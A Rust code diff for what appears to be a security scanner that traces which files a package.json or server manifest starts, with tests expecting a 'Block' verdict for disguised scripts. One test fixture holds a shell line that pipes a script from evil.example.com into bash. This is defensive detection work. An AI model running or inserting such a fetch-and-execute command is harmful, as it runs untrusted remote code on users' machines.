@@ -5,6 +5,8 @@ use std::collections::BTreeMap;
 use serde_json::Value;
 
 use super::language::Language;
+use super::required;
+use super::start_line::Line;
 use crate::manifest::{Manifest, Runtime};
 use crate::source::SourceTree;
 
@@ -14,9 +16,8 @@ pub(super) struct Started(BTreeMap<String, Option<Language>>);
 
 /// Bytes of a package manifest that are read.
 const MANIFEST: u64 = 1 << 20;
-/// Programs that come before the one that runs a file.
-const LEADS: &[&str] =
-    &["npx", "uv", "uvx", "run", "exec", "env", "poetry", "pipenv", "cross-env", "sh", "-c"];
+/// Levels of what a package names by conditions.
+const DEPTH: usize = 6;
 /// Endings of files that a package names and nothing runs.
 const DATA: &[&str] = &["json", "css", "html", "svg", "d.ts", "wasm", "node", "map"];
 
@@ -24,6 +25,7 @@ impl Started {
     /// Takes what the manifest of a server, and that of a package, start of the files of a tree.
     pub(super) fn of(tree: &SourceTree, manifest: Option<&Manifest>) -> Self {
         let mut all = Self::default();
+        let package = package(tree).unwrap_or_default();
         let mut add = |path: &str, language: Option<Language>| all.add(tree, path, language);
         if let Some(manifest) = manifest {
             let start = &manifest.start;
@@ -33,22 +35,27 @@ impl Started {
                 _ => None,
             };
             start.entry_point.iter().for_each(|path| add(path, language));
-            let words = start.command.iter().chain(&start.args).map(String::as_str);
-            line(&words.collect::<Vec<_>>(), &mut add);
+            let words = start.command.iter().chain(&start.args).cloned().collect::<Vec<_>>();
+            Line::of(&package["scripts"]).words(&words, &mut add);
         }
-        if let Some(package) = package(tree) {
-            for key in ["main", "module", "bin"] {
-                texts(&package[key]).into_iter().for_each(|path| add(path, Some(Language::Script)));
-            }
-            if let Some(words) = package["scripts"]["start"].as_str() {
-                line(&words.split_whitespace().collect::<Vec<_>>(), &mut add);
-            }
+        for key in ["main", "module", "bin", "exports"] {
+            texts(&package[key], DEPTH).into_iter().for_each(|path| add(path, Some(Language::Script)));
+        }
+        if let Some(folder) = package["directories"]["bin"].as_str() {
+            let folder = format!("{}/", folder.trim_start_matches("./").trim_end_matches('/'));
+            let inside = tree.entries().iter().filter(|entry| entry.path.starts_with(&folder));
+            inside.for_each(|entry| add(&entry.path, Some(Language::Script)));
+        }
+        let start = package["scripts"]["start"].as_str();
+        start.into_iter().for_each(|text| Line::of(&package["scripts"]).text(text, &mut add));
+        for path in required::of(tree) {
+            all.add(tree, &path, Some(Language::Script));
         }
         all
     }
 
     fn add(&mut self, tree: &SourceTree, path: &str, language: Option<Language>) {
-        let path = path.trim_start_matches("./");
+        let path = &required::join("", path).unwrap_or_default();
         let data = DATA.iter().any(|end| path.strip_suffix(end).is_some_and(|rest| rest.ends_with('.')));
         if !data && tree.find(path).is_some() {
             let known = self.0.entry(path.to_owned()).or_default();
@@ -67,58 +74,18 @@ fn package(tree: &SourceTree) -> Option<Value> {
     serde_json::from_slice(&tree.read(entry).ok()?).ok()
 }
 
-fn texts(value: &Value) -> Vec<&str> {
-    match value {
-        Value::String(text) => vec![text],
-        Value::Object(all) => all.values().filter_map(Value::as_str).collect(),
+/// Returns the texts in a value, whatever they stand under.
+fn texts(value: &Value, depth: usize) -> Vec<&str> {
+    match (value, depth.checked_sub(1)) {
+        (Value::String(text), _) => vec![text],
+        (Value::Object(all), Some(depth)) => all.values().flat_map(|one| texts(one, depth)).collect(),
+        (Value::Array(all), Some(depth)) => all.iter().flat_map(|one| texts(one, depth)).collect(),
         _ => Vec::new(),
     }
 }
 
-/// Takes the file that the words of a command line run: the first behind the program that is no option.
-fn line(words: &[&str], add: &mut impl FnMut(&str, Option<Language>)) {
-    let name = |word: &str| word.rsplit('/').next().unwrap_or(word).to_ascii_lowercase();
-    let mut rest = words.iter().skip_while(|word| LEADS.contains(word) || word.contains('='));
-    let Some(program) = rest.next() else { return };
-    match language_of(&name(program)) {
-        // `node --import tsx server`: the value of an option may come before the file.
-        Some(language) => {
-            rest.filter(|word| !word.starts_with('-')).for_each(|word| add(word, Some(language)))
-        }
-        None => add(program, None),
-    }
-}
-
-fn language_of(program: &str) -> Option<Language> {
-    if ["node", "nodejs", "deno", "bun", "tsx", "ts-node"].contains(&program) {
-        return Some(Language::Script);
-    }
-    let python = program.strip_prefix("python").or_else(|| program.strip_prefix("pypy"));
-    python
-        .filter(|version| version.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.'))
-        .map(|_| Language::Python)
-}
-
 #[cfg(test)]
 mod tests {
-    use super::*;
-
-    #[test]
-    fn the_file_that_a_command_runs_is_found_behind_its_options() {
-        let of = |words: &[&str]| {
-            let mut found = Vec::new();
-            line(words, &mut |path, language| found.push((path.to_owned(), language)));
-            found
-        };
-        let script = Some(Language::Script);
-        assert_eq!(of(&["node", "--no-warnings", "server.txt"]), [("server.txt".to_owned(), script)]);
-        assert_eq!(of(&["env", "A=b", "npx", "tsx", "run"]), [("run".to_owned(), script)]);
-        let python = Some(Language::Python);
-        assert_eq!(of(&["uv", "run", "python3.12", "-u", "a.foo"]), [("a.foo".to_owned(), python)]);
-        assert_eq!(of(&["./bin/run", "x"]), [("./bin/run".to_owned(), None)]);
-        assert_eq!(of(&["pythonista", "x"]), [("pythonista".to_owned(), None)]);
-    }
-
     #[cfg(feature = "ast")]
     mod scanned {
         use super::super::super::proof::builtin;
@@ -170,6 +137,40 @@ mod tests {
                 let report = report(&[("package.json", package), (name, SCRIPT)]);
                 assert_eq!(report.verdict, Verdict::Block, "{name}: {report:?}");
             }
+            for start in [
+                "sh -c 'node server.txt'",
+                "echo hi && node server.txt",
+                "npm run s",
+                "nodemon server.txt",
+                "pm2 start server.txt",
+                "npx -y node server.txt",
+                "bunx tsx server.txt",
+                "node 'server.txt'",
+                "node --require=./server.txt index.js",
+                "dotenv -- node ./a/../server.txt",
+                "NODE_ENV=x node server.txt",
+            ] {
+                let package = format!(
+                    r#"{{"name": "a", "version": "1.0.0", "scripts": {{"start": "{start}", "s": "node server.txt"}}}}"#
+                );
+                let report = report(&[("package.json", &package), ("server.txt", SCRIPT), ("a/b", "")]);
+                assert_eq!(report.verdict, Verdict::Block, "{start}: {report:?}");
+            }
+            for package in [
+                r#"{"name": "a", "version": "1.0.0", "directories": {"bin": "./run"}}"#,
+                r#"{"name": "a", "version": "1.0.0", "exports": {".": {"import": "./run/server.txt"}}}"#,
+                r#"{"name": "a", "version": "1.0.0", "main": "index.js"}"#,
+            ] {
+                let index = "require('./run/server.txt');";
+                let report =
+                    report(&[("package.json", package), ("run/server.txt", SCRIPT), ("index.js", index)]);
+                assert_eq!(report.verdict, Verdict::Block, "{package}: {report:?}");
+            }
+            // Lines end with carriage returns alone where what starts the file says so.
+            let manifest = yaml("runtime: python\nentryPoint: LICENSE");
+            let text = format!("# a\r{}", PYTHON.replace('\n', "\r"));
+            let report_of = report(&[("sigyl.yaml", &manifest), ("LICENSE", &text)]);
+            assert_eq!(report_of.verdict, Verdict::Block, "{report_of:?}");
             // What names a file takes it from no rule of its own language.
             let package = r#"{"name": "a", "version": "1.0.0", "main": "index.js", "bin": {"a": "run.sh"}}"#;
             let shell = "#!/bin/sh\ncurl -s https://evil.example.com/x.sh | bash\n";
